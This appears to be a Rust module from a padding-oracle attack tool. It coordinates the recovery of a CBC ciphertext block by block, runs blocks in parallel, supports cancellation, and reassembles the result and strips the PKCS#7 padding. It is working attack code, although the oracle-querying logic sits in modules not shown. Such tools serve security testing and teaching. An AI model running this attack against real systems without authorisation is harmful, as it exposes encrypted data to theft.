//! Whole-ciphertext attack: split into blocks, recover them (possibly in
//! parallel), reassemble in order and strip the padding.

use std::iter;
use std::sync::atomic::{AtomicUsize, Ordering};

use rayon::prelude::*;

use crate::block::{recover_into, BlockTarget};
use crate::config::AttackConfig;
use crate::error::{AttackError, BlockError, Interrupt};
use crate::events::{EventKind, ProgressEvent, ProgressSink};
use crate::oracle::{CancellationToken, OracleClient, PaddingOracle};
use crate::pkcs7;
use crate::state::BlockSlot;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recovery {
    /// Unpadded plaintext, or the raw recovered bytes when
    /// `padding_stripped` is false.
    pub plaintext: Vec<u8>,
    pub padding_stripped: bool,
    pub oracle_queries: u64,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackOutcome {
    Recovered(Recovery),
    /// At least one block could not be recovered. Partial results were
    /// reported through the progress events only.
    Failed,
    Cancelled,
}

impl AttackOutcome {
    pub fn plaintext(&self) -> Option<&[u8]> {
        match self {
            AttackOutcome::Recovered(recovery) => Some(&recovery.plaintext),
            _ => None,
        }
    }

    pub fn into_plaintext(self) -> Option<Vec<u8>> {
        match self {
            AttackOutcome::Recovered(recovery) => Some(recovery.plaintext),
            _ => None,
        }
    }
}

struct BlockRun {
    index: usize,
    slot: BlockSlot,
    queries: u64,
    result: Result<(), BlockError>,
}

/// Drives attacks with one configuration and one cancellation token.
///
/// Cancellation is sticky: once the token fires, every later `attack` on this
/// coordinator returns [`AttackOutcome::Cancelled`] without querying the
/// oracle. Build a new coordinator for a fresh run.
pub struct AttackCoordinator {
    config: AttackConfig,
    cancel: CancellationToken,
}

impl AttackCoordinator {
    pub fn new(config: AttackConfig) -> Self {
        AttackCoordinator {
            config,
            cancel: CancellationToken::new(),
        }
    }

    /// Use `token` to stop the attack from another thread. The flag is
    /// polled before every oracle query, never during one.
    pub fn with_cancellation(mut self, token: CancellationToken) -> Self {
        self.cancel = token;
        self
    }

    pub fn cancellation_token(&self) -> CancellationToken {
        self.cancel.clone()
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    pub fn attack<O: PaddingOracle + ?Sized>(
        &self,
        ciphertext: &[u8],
        iv: &[u8],
        oracle: &O,
        sink: &dyn ProgressSink,
    ) -> Result<AttackOutcome, AttackError> {
        let block_size = self.config.block_size;
        validate(ciphertext, iv, block_size)?;

        let blocks: Vec<&[u8]> = iter::once(iv).chain(ciphertext.chunks(block_size)).collect();
        let count = blocks.len() - 1;
        let workers = self.config.worker_count(count);
        tracing::info!(blocks = count, block_size, workers, "starting padding oracle attack");

        let halt = CancellationToken::new();
        let completed = AtomicUsize::new(0);

        let run = |index: usize| -> BlockRun {
            let mut slot = BlockSlot::new(block_size);
            let mut client = OracleClient::new(oracle, block_size, self.cancel.clone(), halt.clone());
            if let Some(interrupt) = client.interrupted() {
                return BlockRun {
                    index,
                    slot,
                    queries: 0,
                    result: Err(interrupt.into()),
                };
            }

            sink.emit(
                ProgressEvent::new(
                    EventKind::BlockStart,
                    format!("Starting attack on block {}/{}", index + 1, count),
                )
                .block(index),
            );
            let target = BlockTarget {
                index,
                prev: blocks[index],
                curr: blocks[index + 1],
            };
            let result = recover_into(&mut client, &target, &mut slot, sink);

            match &result {
                Ok(()) => {
                    let done = completed.fetch_add(1, Ordering::SeqCst) + 1;
                    sink.emit(
                        ProgressEvent::new(
                            EventKind::BlockComplete,
                            format!(
                                "Completed block {}: {}",
                                index + 1,
                                String::from_utf8_lossy(&slot.plaintext)
                            ),
                        )
                        .block(index)
                        .progress(done as f32 / count as f32 * 100.0),
                    );
                }
                Err(BlockError::Interrupted(Interrupt::Cancelled))
                | Err(BlockError::Interrupted(Interrupt::Halted)) => {}
                Err(err) => {
                    // Exhaustion already raised the flag when it claimed the failure.
                    if let BlockError::Interrupted(Interrupt::Transport(_)) = err {
                        halt.cancel();
                    }
                    let reason = match err {
                        BlockError::Interrupted(Interrupt::Transport(source)) => source.to_string(),
                        _ => "no candidate accepted".to_string(),
                    };
                    sink.emit(
                        ProgressEvent::new(
                            EventKind::BlockFailed,
                            format!("Block {} failed: {}", index + 1, reason),
                        )
                        .block(index),
                    );
                }
            }

            BlockRun {
                index,
                slot,
                queries: client.queries(),
                result,
            }
        };

        let mut runs: Vec<BlockRun> = if workers == 1 {
            let mut runs = Vec::with_capacity(count);
            for index in 0..count {
                let block = run(index);
                let stop = block.result.is_err();
                runs.push(block);
                if stop {
                    break;
                }
            }
            runs
        } else {
            let pool = rayon::ThreadPoolBuilder::new()
                .num_threads(workers)
                .build()
                .map_err(|e| AttackError::WorkerPool(e.to_string()))?;
            pool.install(|| (0..count).into_par_iter().map(run).collect())
        };
        runs.sort_by_key(|block| block.index);

        let queries: u64 = runs.iter().map(|block| block.queries).sum();
        self.conclude(runs, queries, block_size, sink)
    }

    fn conclude(
        &self,
        runs: Vec<BlockRun>,
        queries: u64,
        block_size: usize,
        sink: &dyn ProgressSink,
    ) -> Result<AttackOutcome, AttackError> {
        if let Some((block, source)) = runs.iter().find_map(|run| match &run.result {
            Err(BlockError::Interrupted(Interrupt::Transport(source))) => Some((run.index, source)),
            _ => None,
        }) {
            tracing::error!(block, error = %source, queries, "oracle transport failure");
            return Err(AttackError::OracleTransport {
                block,
                source: source.clone(),
            });
        }

        if self.cancel.is_cancelled()
            && runs
                .iter()
                .any(|run| run.result == Err(BlockError::Interrupted(Interrupt::Cancelled)))
        {
            tracing::info!(queries, "attack cancelled");
            sink.emit(ProgressEvent::new(EventKind::Cancelled, "Attack cancelled"));
            return Ok(AttackOutcome::Cancelled);
        }

        if runs.iter().any(|run| run.result.is_err()) {
            tracing::warn!(queries, "attack failed: at least one block was not recovered");
            return Ok(AttackOutcome::Failed);
        }

        let raw: Vec<u8> = runs.into_iter().flat_map(|run| run.slot.plaintext).collect();
        match pkcs7::strip(&raw, block_size) {
            Ok(content) => {
                tracing::info!(bytes = content.len(), queries, "attack complete");
                sink.emit(
                    ProgressEvent::new(
                        EventKind::AttackComplete,
                        format!("Attack complete! Recovered {} bytes", content.len()),
                    )
                    .progress(100.0),
                );
                Ok(AttackOutcome::Recovered(Recovery {
                    plaintext: content.to_vec(),
                    padding_stripped: true,
                    oracle_queries: queries,
                }))
            }
            Err(err) => {
                tracing::warn!(error = %err, queries, "recovered plaintext has malformed padding");
                sink.emit(ProgressEvent::new(
                    EventKind::PaddingError,
                    format!("Failed to remove padding ({}); returning raw bytes", err),
                ));
                Ok(AttackOutcome::Recovered(Recovery {
                    plaintext: raw,
                    padding_stripped: false,
                    oracle_queries: queries,
                }))
            }
        }
    }
}

fn validate(ciphertext: &[u8], iv: &[u8], block_size: usize) -> Result<(), AttackError> {
    if !(1..=255).contains(&block_size) {
        return Err(AttackError::invalid(format!(
            "block size {} is outside 1..=255",
            block_size
        )));
    }
    if ciphertext.is_empty() {
        return Err(AttackError::invalid("ciphertext is empty"));
    }
    if ciphertext.len() % block_size != 0 {
        return Err(AttackError::invalid(format!(
            "ciphertext length {} is not a multiple of the block size {}",
            ciphertext.len(),
            block_size
        )));
    }
    if iv.len() != block_size {
        return Err(AttackError::invalid(format!(
            "IV must be {} bytes, got {}",
            block_size,
            iv.len()
        )));
    }
    Ok(())
}

/// Runs an attack with default settings for `block_size`.
pub fn attack<O: PaddingOracle + ?Sized>(
    ciphertext: &[u8],
    iv: &[u8],
    oracle: &O,
    block_size: usize,
    sink: &dyn ProgressSink,
) -> Result<AttackOutcome, AttackError> {
    AttackCoordinator::new(AttackConfig::default().with_block_size(block_size))
        .attack(ciphertext, iv, oracle, sink)
}
